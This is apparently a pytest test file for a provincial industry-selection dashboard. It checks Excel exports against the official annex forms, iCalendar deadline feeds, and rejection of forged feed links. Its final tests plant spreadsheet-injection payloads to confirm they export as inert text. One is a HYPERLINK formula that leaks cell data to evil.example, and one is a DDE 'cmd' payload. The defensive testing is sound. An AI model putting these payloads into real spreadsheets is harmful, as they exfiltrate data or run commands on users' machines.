"""Exports in the notice's layouts, and calendar feeds that follow a moved deadline."""

from __future__ import annotations

from datetime import date, datetime, time
from io import BytesIO

import icalendar
import pytest
from openpyxl import load_workbook

from calendars.timeutil import LOCAL_TZ
from dashboard.auth import feed_id
from models.actions import perform, set_deadline
from tests.conftest import CLUSTER, JINGPIN
from tests.dashboard.conftest import WEB, sign_in
from tests.dashboard.world import World

# The exports and feeds are rendered from rows the same way on both backends: SQLite only
# (tests/README.md, rule 4), except the status report (the board's counts) and a feed that
# follows a moved deadline (timestamps read back from the database).
pytestmark = pytest.mark.backends("sqlite")


def _sheet(content: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(BytesIO(content)).active


def _rows(ws) -> list[list[object]]:  # type: ignore[no-untyped-def]
    return [[c for c in row] for row in ws.iter_rows(values_only=True)]


def test_the_jingpin_summary_is_the_form_of_annex_2_3(client, world: World, make_ctx) -> None:  # type: ignore[no-untyped-def]
    operator = make_ctx("2026-06-20T08:00")
    ref = world.refs["jp_xihu"]
    perform(world.db, operator, ref, "submit")
    perform(world.db, operator, ref, "approve")
    perform(world.db, operator, ref, "recommend")
    sign_in(client, world.token("hangzhou"))
    response = client.get(f"/exports/{JINGPIN}/cities/330100/jingpin-summary.xlsx")
    assert response.status_code == 200
    assert "filename*=UTF-8''" in response.headers["content-disposition"]
    rows = _rows(_sheet(response.content))
    assert rows[0][0] == "附2-3"
    assert rows[1][0] == "2026年浙江制造精品推荐汇总表"
    assert rows[2][0] == "填报单位（盖章）：杭州市经济和信息化局"
    assert (
        rows[3][:3] == ["序号", "企业名称", "产品名称及型号"] and rows[3][4] == "所在“415X”先进制造业集群赛道"
    )
    assert str(rows[3][3]).startswith("产品类别")
    assert rows[4] == [1, "杭州智算科技有限公司", "智算一体机 ZS-800", "先进制造类", "人工智能"]
    texts = [r[0] for r in rows if r[0]]
    assert "填报人：王明" in texts and "联系电话（手机）：13800000001" in texts
    assert any(str(t).startswith("注：“415X”先进制造业集群赛道：人工智能") for t in texts)


def test_the_jingpin_summary_names_the_city_s_filler_whoever_downloads_it(client, world: World) -> None:  # type: ignore[no-untyped-def]
    # The province downloading 杭州市's form must not put its own official down as 杭州市's 填报人.
    sign_in(client, world.token("province"))
    response = client.get(f"/exports/{JINGPIN}/cities/330100/jingpin-summary.xlsx")
    assert response.status_code == 200
    texts = [r[0] for r in _rows(_sheet(response.content)) if r[0]]
    assert "填报人：王明" in texts and "联系电话（手机）：13800000001" in texts
    assert "填报人：严梦玲" not in texts


def test_the_roster_is_the_form_of_annex_3(client, world: World) -> None:  # type: ignore[no-untyped-def]
    sign_in(client, world.token("hangzhou"))
    rows = _rows(_sheet(client.get(f"/exports/{CLUSTER}/cities/330100/roster.xlsx").content))
    assert rows[1][0] == "工作人员信息汇总表" and rows[2][0] == "设区市：杭州市"
    assert rows[3] == [
        "市、县(市、区)",
        "处室/科室",
        "姓名",
        "职务",
        "手机号码(浙政钉号码)",
        "备注(集群遴选/制造精品)",
    ]
    people = {r[2]: r for r in rows[4:] if r[1] is not None}
    assert people["王明"] == ["杭州市", "产业处", "王明", "科长", "13800000001", "集群遴选"]
    assert people["林西"][0] == "西湖区"
    assert "方鄞" not in people  # 鄞州区 belongs to 宁波市
    assert any(str(r[0]).startswith("备注：1.") for r in rows if r[0])


@pytest.mark.backends("sqlite", "postgresql")
def test_the_status_report_lists_stages_board_and_cases(client, world: World) -> None:  # type: ignore[no-untyped-def]
    sign_in(client, world.token("province"))
    book = load_workbook(BytesIO(client.get(f"/exports/{CLUSTER}/status.xlsx").content))
    assert book.sheetnames == ["环节与截止时间", "进度一览", "案件清单"]
    stages = _rows(book["环节与截止时间"])
    assert stages[3][0] == "报送工作人员信息汇总表（附件3）" and stages[3][5] == "已逾期"
    board = _rows(book["进度一览"])
    assert board[3][0] == "杭州市" and board[-1][0] == "合计" and board[-1][-1] == 7
    cases = _rows(book["案件清单"])
    assert len(cases) == 3 + 7
    sign_in(client, world.token("hangzhou"))
    city = load_workbook(BytesIO(client.get(f"/exports/{CLUSTER}/cities/330100/status.xlsx").content))
    assert len(_rows(city["案件清单"])) == 3 + 6


@pytest.mark.backends("sqlite", "postgresql")
def test_a_feed_follows_a_moved_deadline(client, world: World, make_ctx) -> None:  # type: ignore[no-untyped-def]
    url = f"/calendar/{feed_id(WEB.secret, world.people['hangzhou'].token_id)}.ics"  # type: ignore[arg-type]
    first = client.get(url)  # no cookie: calendar apps only fetch the URL
    assert first.status_code == 200 and first.headers["content-type"].startswith("text/calendar")
    text = first.text
    assert "UID:2026-cluster-selection.city_recommendation@shenbao" in text
    # 07-03 24:00 is shown on 07-03 (not on 07-04), with alarms at 09:00 on 07-01 and on 07-03.
    uid = "2026-cluster-selection.city_recommendation@shenbao"
    (shown,) = [e for e in icalendar.Calendar.from_ical(text).walk("VEVENT") if e["UID"] == uid]
    assert shown.decoded("DTSTART") == date(2026, 7, 3) and shown.decoded("DTEND") == date(2026, 7, 4)
    midnight = datetime.combine(date(2026, 7, 3), time(0), LOCAL_TZ)
    rings = [midnight + alarm.decoded("TRIGGER") for alarm in shown.walk("VALARM")]
    assert [f"{r:%m-%d %H:%M}" for r in rings] == ["07-01 09:00", "07-03 09:00"]
    assert "SUMMARY:【截止】设区市审核推荐并上传推荐函（签章版）" in text.replace("\r\n ", "")
    assert "SEQUENCE:1" in text
    from calendars.timeutil import parse_deadline

    with world.db.write() as session:
        set_deadline(
            session,
            make_ctx("2026-06-20T08:00"),
            CLUSTER,
            "city_recommendation",
            parse_deadline("2026-07-10"),
            "延期一周",
        )
    moved = client.get(url).text.replace("\r\n ", "")
    block = moved.split("UID:2026-cluster-selection.city_recommendation@shenbao")[1].split("END:VEVENT")[0]
    assert "SEQUENCE:2" in block and "DTSTART;VALUE=DATE:20260710" in block
    assert "调整原因：延期一周" in block


def test_a_feed_shows_only_the_stages_of_its_tier(client, world: World) -> None:  # type: ignore[no-untyped-def]
    url = f"/calendar/{feed_id(WEB.secret, world.people['enterprise'].token_id)}.ics"  # type: ignore[arg-type]
    text = client.get(url).text.replace("\r\n ", "")
    assert "企业在线申报" in text
    assert "设区市" not in text and "工作人员信息汇总表" not in text


def test_a_forged_or_revoked_feed_is_not_found(client, world: World) -> None:  # type: ignore[no-untyped-def]
    from dashboard.auth import revoke_tokens
    from tests.dashboard.world import NOW

    token_id = world.people["ningbo"].token_id
    assert client.get(f"/calendar/{token_id}.forged.ics").status_code == 404
    assert client.get(f"/calendar/{feed_id('another-secret-0123456789', token_id)}.ics").status_code == 404
    with world.db.write() as session:
        revoke_tokens(session, NOW, token_id=token_id)
    assert client.get(f"/calendar/{feed_id(WEB.secret, token_id)}.ics").status_code == 404  # type: ignore[arg-type]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此核对")'


def _no_live_cell(book, *, expected: set[str]) -> None:  # type: ignore[no-untyped-def]
    """No cell is a formula, and each planted text comes back as the same text."""
    seen: set[str] = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str) and cell.value in expected:
                    assert cell.data_type == "s" and cell.quotePrefix
                    seen.add(cell.value)
    assert seen == expected


def test_imported_text_is_never_a_formula_in_the_roster(client, world: World) -> None:  # type: ignore[no-untyped-def]
    from sqlmodel import select

    from models.org import Contact

    with world.db.write() as session:
        contact = session.exec(select(Contact).where(Contact.name == "王明")).one()
        contact.name, contact.department, contact.title = FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)"
        session.add(contact)
    sign_in(client, world.token("province"))
    response = client.get(f"/exports/{CLUSTER}/cities/330100/roster.xlsx")
    assert response.status_code == 200
    expected = {FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)"}
    _no_live_cell(load_workbook(BytesIO(response.content)), expected=expected)


def test_imported_text_is_never_a_formula_in_the_status_report(client, world: World) -> None:  # type: ignore[no-untyped-def]
    from sqlmodel import select

    from models.case import Case

    with world.db.write() as session:
        case = session.exec(select(Case).where(Case.ref == world.refs["xihu_core"])).one()
        case.title = FORMULA
        session.add(case)
    sign_in(client, world.token("province"))
    response = client.get(f"/exports/{CLUSTER}/status.xlsx")
    assert response.status_code == 200
    _no_live_cell(load_workbook(BytesIO(response.content)), expected={FORMULA})
